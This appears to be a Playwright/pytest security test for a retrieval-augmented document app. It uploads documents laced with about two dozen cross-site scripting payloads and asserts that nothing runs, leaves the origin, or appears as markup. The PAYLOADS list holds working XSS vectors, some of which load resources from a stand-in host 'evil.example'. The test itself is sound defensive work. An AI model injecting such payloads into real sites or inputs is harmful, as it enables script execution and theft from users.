"""A hundred documents that want to run a script in whoever looks at them: none does."""

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from rag.api.app import create_app
from tests.api.raw import serving
from tests.page.conftest import RECORD_VIOLATIONS
from tests.services import make_service

# Each sets `ran` or asks another origin for something, if anything of it is taken for markup.
PAYLOADS = (
    "<script>ran=1</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>ran=1</script>",
    "<ScRiPt\n>ran=1</sCrIpT\t>",
    "<img src=x onerror=ran=1>",
    '"><img src=/x onerror="ran=1">',
    "'><svg/onload=ran=1>",
    "<svg><script>ran=1</script><animate onbegin=ran=1 attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran=1>#x'/></svg>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "javascript:ran=1//",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/ran=1//'>",
    "data:text/html,<script>opener.ran=1</script>",
    "<a href=javascript:ran=1 id=location name=ran>click</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=ran=1>'>",
    "<details open ontoggle=ran=1><summary>x</summary></details>",
    "</textarea></title><input autofocus onfocus=ran=1>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    "<object data=//evil.example/x></object><embed src=//evil.example/y><video src=//evil.example>",
    "${ran=1} {{constructor.constructor('ran=1')()}} #{ran=1} <%= ran=1 %> `+(ran=1)+`",
    "&lt;img src=x onerror=ran=1&gt; &#60;script&#62;ran=1&#60;/script&#62; \\u003cscript>ran=1",
    "\uff1cscript\uff1eran=1\uff1c/script\uff1e \u202e>tpircs/<1=nar>tpircs< \u2028ran=1\u2029",
    '\\"};ran=1;//</script> <!--<script>ran=1--> ]]><script>ran=1</script> %3Cscript%3Eran=1',
)
TOWNS = 10
STRANGE = """[...document.querySelectorAll(
  "script:not([src^='/page/']), iframe, object, embed, video, base, meta[http-equiv], math, " +
  "link:not([href^='/page/']), img:not([src='/page/icon.svg']), a[href^='javascript:'], style, " +
  "[onerror], [onload], [onfocus], [ontoggle], [onbegin]")].map((it) => it.outerHTML)"""
OPEN_EACH = """async (documents) => {
  for (const { id, title } of documents) {
    location.hash = `#/d/${id}`;
    const until = Date.now() + 20_000;
    const shown = () => document.querySelector("#source-title")?.textContent === title
      && document.querySelector("#source .text")?.textContent.includes("hoot");
    while (!shown()) {
      if (Date.now() > until) return `${id} ${title} was not shown`;
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  }
  return "all";
}"""


def hostile_documents() -> Iterator[dict[str, Any]]:
    """Yield what to send for each document: every payload in each of four kinds."""
    for number, payload in enumerate(PAYLOADS):
        line = " ".join(payload.split())
        for kind in range(4):
            place = f"town{(4 * number + kind) % TOWNS}"
            text = f"Owls of the sort {number}x{kind} hoot in {place} {line} at night."
            name = f"{line.replace('/', '')} {number}"
            if kind == 0:
                body = {"text": text, "title": f"{line} {number}", "uri": f"{line}#{number}"}
                yield {"json": body | {"metadata": {line: line}}}
            elif kind == 1:
                front = json.dumps(f"{line} {number}")
                content = f"---\ntitle: {front}\nauthor: {front}\n---\n# {line}\n\n{text}\n"
                yield {"files": {"file": (f"{name}.md", content.encode())}}
            elif kind == 2:
                escaped = line.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
                said = text.replace("&", "&amp;").replace("<", "&lt;")
                content = (
                    f"<title>{escaped} {number}</title><h1>{escaped}</h1><p>{said}</p>{payload}"
                )
                yield {"files": {"file": (f"{name}.html", content.encode())}}
            else:
                yield {"files": {"file": (f"{name}.txt", text.encode())}}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Address of a service over a hundred hostile documents."""
    service = make_service(tmp_path_factory.mktemp("hostile"), queue=64)
    with serving(create_app(service)) as port:
        url = f"http://127.0.0.1:{port}"
        with httpx.Client(base_url=url, timeout=60) as client:
            for document in hostile_documents():
                added = client.post("/v1/documents?wait=true", **document)
                assert added.status_code == 201, added.text
        yield url


def test_no_script_of_a_document_runs(browser: Browser, hostile: str) -> None:
    """Listed, asked, cited and opened: all is text; no request leaves, the policy stops nothing."""
    strays: list[str] = []
    context = browser.new_context(base_url=hostile, viewport={"width": 1280, "height": 800})
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.on(
        "request", lambda it: None if it.url.startswith(f"{hostile}/") else strays.append(it.url)
    )
    page.on("dialog", lambda it: strays.append(f"dialog: {it.message}") or it.dismiss())
    page.on("pageerror", lambda error: strays.append(f"error: {error}"))
    page.on("popup", lambda it: strays.append(f"popup: {it.url}"))
    documents = httpx.get(f"{hostile}/v1/documents?limit=1000").json()["documents"]
    assert len(documents) == 100
    page.goto("/")
    look_at_the_list(page, documents)
    for town in range(TOWNS):
        page.locator("#question").fill(f"Which owls hoot in town{town}?")
        page.keyboard.press("Enter")
        expect(page.locator(".turn").nth(0)).to_be_visible()
        expect(page.locator(".turn")).to_have_count(town + 1)
        expect(page.locator(".turn [aria-busy]")).to_have_count(0)
        check(page, strays)
    assert page.locator(".turn .answer").count() >= TOWNS
    for summary in page.locator(".turn details:not([open]) > summary").all():
        summary.click()
    check(page, strays)
    page.locator(".turn .citation").first.click()
    expect(page.locator("#source-title")).to_be_visible()
    check(page, strays)
    assert page.evaluate(OPEN_EACH, documents) == "all"
    check(page, strays)
    for payload in PAYLOADS:
        hostile_hash = httpx.QueryParams(
            {"version": payload, "quote": payload, "collection": payload}
        )
        page.evaluate(
            "(hash) => { location.hash = hash }", f"#/d/{documents[0]['id']}/0-4?{hostile_hash}"
        )
        page.evaluate("(hash) => { location.hash = hash }", f"#/d/{payload}")
    page.goto("/page/nope<script>ran=1</script>")
    page.goto(f"/v1/documents?collection={PAYLOADS[0]}")
    check(page, strays)
    context.close()


def look_at_the_list(page: Page, documents: list[dict[str, Any]]) -> None:
    """Turn over the whole list of documents and see every title in it, to the letter."""
    expect(page.locator("#count")).to_contain_text("100 documents")
    page.locator("#open-documents").click()
    titles: list[str] = []
    while True:
        shown = documents[len(titles) : len(titles) + 50]
        expect(page.locator(".list li")).to_have_count(len(shown))
        expect(page.locator(".list li").last).to_contain_text(shown[-1]["uri"])
        titles += page.locator(".list li button:nth-of-type(1)").all_text_contents()
        on = page.get_by_role("button", name="Next", exact=True)
        if not on.is_visible():
            break
        on.click()
        page.wait_for_function(
            "(uri) => document.querySelector('.list li').textContent.includes(uri)",
            arg=documents[len(titles)]["uri"],
        )
    assert titles == [document["title"] for document in documents]
    page.keyboard.press("Escape")
    expect(page.locator("#documents")).to_be_hidden()


def check(page: Page, strays: list[str]) -> None:
    """Assert that nothing ran, nothing was asked of others, and nothing strange is in the page."""
    assert page.evaluate("typeof ran") == "undefined"
    assert page.evaluate("window.violations ?? []") == []
    assert page.evaluate(STRANGE) == []
    assert strays == []
